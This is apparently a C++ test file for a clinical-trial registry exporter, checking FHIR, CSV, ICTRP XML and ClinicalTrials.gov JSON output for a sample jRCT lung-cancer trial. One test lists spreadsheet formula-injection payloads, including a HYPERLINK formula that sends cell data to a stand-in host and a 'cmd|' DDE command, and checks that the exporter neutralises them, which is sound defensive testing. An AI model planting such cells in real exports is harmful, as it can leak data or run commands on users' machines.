#include <doctest/doctest.h>

#include <set>
#include <sstream>
#include <stdexcept>

#include <nlohmann/json.hpp>

#include "linkage/exporter.hpp"
#include "support/import_run.hpp"

using namespace rinsho;
using linkage::ExportFormat;
using nlohmann::json;

namespace {

json sample() { return json::parse(testing::read_file(testing::source_dir() / "sample_trials/records/jRCT2031240001.json")); }

std::string written(ExportFormat format, const std::vector<json>& records) {
  std::ostringstream out;
  auto writer = linkage::make_export_writer(format);
  writer->begin(out);
  for (const auto& r : records) writer->write(r);
  writer->end();
  return out.str();
}

// Every "#id" reference in a resource must name a contained resource (FHIR invariant dom-3).
void collect_references(const json& j, std::set<std::string>& out) {
  if (j.is_object()) {
    if (j.contains("reference") && j["reference"].is_string()) out.insert(j["reference"].get<std::string>());
    for (const auto& [k, v] : j.items()) collect_references(v, out);
  } else if (j.is_array()) {
    for (const auto& v : j) collect_references(v, out);
  }
}

}  // namespace

TEST_CASE("parse_export_format accepts the four names and nothing else") {
  CHECK(linkage::parse_export_format("fhir") == ExportFormat::fhir);
  CHECK(linkage::parse_export_format("trds-xml") == ExportFormat::trds_xml);
  CHECK(linkage::parse_export_format("ctgov-json") == ExportFormat::ctgov_json);
  CHECK(linkage::parse_export_format("csv") == ExportFormat::csv);
  const auto bad = linkage::parse_export_format("FHIR");
  REQUIRE(!bad.has_value());
  CHECK(bad.error().code == ErrorCode::invalid_argument);
  CHECK(bad.error().fields.front().pointer == "/format");
  CHECK(linkage::parse_import_format("ictrp-xml") == linkage::ImportFormat::ictrp_xml);
  CHECK(!linkage::parse_import_format("xml").has_value());
}

TEST_CASE("export_trial(fhir) writes an R4 ResearchStudy with Japanese as translations") {
  const auto r = json::parse(linkage::export_trial(ExportFormat::fhir, sample()));
  CHECK(r["resourceType"] == "ResearchStudy");
  CHECK(r["id"] == "jRCT2031240001");
  CHECK(r["status"] == "active");  // recruiting
  CHECK(r["title"] == "A study comparing a new oral drug with standard treatment in advanced non-small cell lung cancer with an EGFR mutation");
  const auto& ext = r["_title"]["extension"][0];
  CHECK(ext["url"] == "http://hl7.org/fhir/StructureDefinition/translation");
  CHECK(ext["extension"][0] == json::parse(R"J({"url":"lang","valueCode":"ja"})J"));
  CHECK(ext["extension"][1]["url"] == "content");
  CHECK(ext["extension"][1]["valueString"] == "EGFR遺伝子変異のある進行非小細胞肺がんの方を対象に、新しい飲み薬と標準治療を比べる試験");
  CHECK(r["phase"]["coding"][0] == json::parse(R"J({"system":"http://terminology.hl7.org/CodeSystem/research-study-phase","code":"phase-3"})J"));
  CHECK(r["condition"][0]["coding"][0] == json::parse(R"J({"system":"http://hl7.org/fhir/sid/icd-10","code":"C34"})J"));
  CHECK(r["condition"][0]["text"] == "Non-small cell lung cancer");
  CHECK(r["condition"][0]["_text"]["extension"][0]["extension"][1]["valueString"] == "非小細胞肺癌");
  CHECK(r["location"].size() == 4);
  CHECK(r["location"][0]["coding"][0] == json::parse(R"J({"system":"urn:iso:std:iso:3166","code":"JP"})J"));
  CHECK(r["identifier"][1] == json::parse(R"J({"use":"secondary","value":"NCT06123457","assigner":{"display":"NCT"},"system":"https://clinicaltrials.gov"})J"));
  CHECK(r["period"] == json::parse(R"J({"start":"2024-06-01","end":"2028-03-31"})J"));
  CHECK(r["primaryPurposeType"]["coding"][0]["code"] == "treatment");
  CHECK(r["keyword"].size() == 5);
  CHECK(r["arm"].size() == 2);
  CHECK(r["objective"].size() == 3);
  // Contained resources: the sponsor, the enrolment group (R4's enrollment is a Reference) and the sites.
  std::set<std::string> contained, references;
  for (const auto& c : r["contained"]) contained.insert("#" + c["id"].get<std::string>());
  collect_references(r, references);
  CHECK(references == contained);
  CHECK(r["enrollment"][0]["reference"] == "#enrollment");
  const auto& group = r["contained"][1];
  CHECK(group["resourceType"] == "Group");
  CHECK(group["quantity"] == 600);
  CHECK(group["actual"] == false);
  CHECK(group["characteristic"][0]["valueRange"]["low"]["value"] == 20);
  CHECK(r["contained"][0]["resourceType"] == "Organization");
  CHECK(r["contained"][0]["name"] == "Rinsho Pharmaceutical Co., Ltd.");
  const auto& site = r["contained"][2];
  CHECK(site["resourceType"] == "Location");
  CHECK(site["address"]["state"] == "Tokyo");
  CHECK(site["address"]["_state"]["extension"][0]["extension"][1]["valueString"] == "東京都");
  CHECK(site["position"]["latitude"] == 35.6655);
}

TEST_CASE("export_trial(fhir) writes Japanese-only text as the element itself") {
  auto t = sample();
  t["public_title"] = json::parse(R"J({"ja":"日本語だけの題名"})J");
  const auto r = json::parse(linkage::export_trial(ExportFormat::fhir, t));
  CHECK(r["title"] == "日本語だけの題名");
  CHECK(!r.contains("_title"));
  CHECK(r["language"] == "ja");
}

TEST_CASE("export_trial rejects a record that is not a trial") {
  CHECK_THROWS_AS(linkage::export_trial(ExportFormat::fhir, json::parse(R"J({"public_title": 5})J")), std::invalid_argument);
}

TEST_CASE("export_trial(csv) quotes every field as RFC 4180 says and lists the documented columns") {
  auto t = sample();
  t["public_title"]["en"] = "A \"quoted\", comma\nand newline title";
  const auto csv = linkage::export_trial(ExportFormat::csv, t);
  const auto header_end = csv.find("\r\n");
  const auto header = csv.substr(0, header_end);
  CHECK(header.starts_with("\"id\",\"secondary_ids\",\"category\",\"study_type\",\"phase\",\"recruitment_status\","));
  CHECK(header.ends_with("\"contact_email\",\"contact_phone\",\"version\",\"updated_at\""));
  CHECK(std::count(header.begin(), header.end(), ',') == 31);  // 32 columns
  const auto row = csv.substr(header_end + 2);
  CHECK(row.starts_with("\"jRCT2031240001\",\"NCT:NCT06123457\",\"corporate_trial\",\"interventional\",\"3\",\"recruiting\","));
  CHECK(row.find("\"A \"\"quoted\"\", comma\nand newline title\"") != std::string::npos);
  CHECK(row.find("\"JP; KR; TW; US\",\"13; 27; 40\",\"trials@rinsho-pharma.example.jp\",\"0120-000-123\",\"\",\"\"\r\n") != std::string::npos);
  CHECK(row.ends_with("\r\n"));
}

TEST_CASE("export_trial(csv) neutralises cells a spreadsheet would run as formulas") {
  struct Case {
    std::string title, cell;
  };
  const std::vector<Case> cases = {
      {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
      {"+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""},
      {"-2+3", "\"'-2+3\""},
      {"@SUM(1+1)", "\"'@SUM(1+1)\""},
      {"\t=1+1", "\"'\t=1+1\""},
      {"\r=1+1", "\"'\r=1+1\""},
      {"肺がん = lung cancer", "\"肺がん = lung cancer\""},  // only a leading character is dangerous
  };
  for (const auto& c : cases) {
    CAPTURE(c.title);
    auto t = sample();
    t["public_title"]["en"] = c.title;
    const auto csv = linkage::export_trial(ExportFormat::csv, t);
    CAPTURE(csv);
    CHECK(csv.find("," + c.cell + ",") != std::string::npos);
  }
}

TEST_CASE("ExportWriter streams many records: header once, root once, one page, one line each") {
  auto second = sample();
  second["id"] = "jRCT2031240002";
  second["public_title"]["en"] = "Second trial";
  const std::vector<json> records = {sample(), second};

  const auto csv = written(ExportFormat::csv, records);
  CHECK(csv.starts_with("\xEF\xBB\xBF\"id\","));
  CHECK(std::count(csv.begin(), csv.end(), '\n') == 3);
  CHECK(csv.find("\"id\"", 5) == std::string::npos);

  const auto ndjson = written(ExportFormat::fhir, records);
  std::istringstream lines(ndjson);
  std::string line;
  std::vector<json> studies;
  while (std::getline(lines, line)) studies.push_back(json::parse(line));
  REQUIRE(studies.size() == 2);
  CHECK(studies[1]["id"] == "jRCT2031240002");

  const auto xml = written(ExportFormat::trds_xml, records);
  CHECK(xml.find("<Trials_downloaded_from_ICTRP>") == xml.rfind("<Trials_downloaded_from_ICTRP>"));
  const auto back = testing::run_import(linkage::ImportFormat::ictrp_xml, xml);
  REQUIRE(back.status.has_value());
  CHECK(back.count(linkage::ImportedRecord::Outcome::mapped) == 2);
  CHECK((*back.records[1].record)["public_title"]["en"] == "Second trial");

  const auto page = json::parse(written(ExportFormat::ctgov_json, records));
  REQUIRE(page["studies"].size() == 2);
  CHECK(page["studies"][0]["protocolSection"]["identificationModule"]["nctId"] == "NCT06123457");
  const auto pages_back = testing::run_import(linkage::ImportFormat::ctgov_json, page.dump());
  CHECK(pages_back.count(linkage::ImportedRecord::Outcome::mapped) == 2);

  CHECK(written(ExportFormat::ctgov_json, {}) == "{\"studies\":[\n]}\n");
  CHECK(linkage::export_media_type(ExportFormat::fhir) == "application/fhir+ndjson");
}
